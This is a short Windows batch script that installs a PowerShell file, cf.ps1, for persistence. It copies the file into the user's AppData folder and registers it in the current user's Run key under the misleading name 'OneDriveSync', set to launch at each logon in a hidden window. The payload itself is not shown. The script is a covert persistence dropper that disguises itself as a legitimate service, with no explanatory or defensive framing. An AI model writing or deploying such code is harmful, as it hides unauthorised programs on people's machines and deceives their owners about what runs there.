@echo off
copy /y "%~dp0cf.ps1" "%APPDATA%\cf.ps1" >nul
reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v "OneDriveSync" /t REG_SZ /d "powershell -W Hidden -NoP -File \"%APPDATA%\cf.ps1\"" /f >nul
echo installed
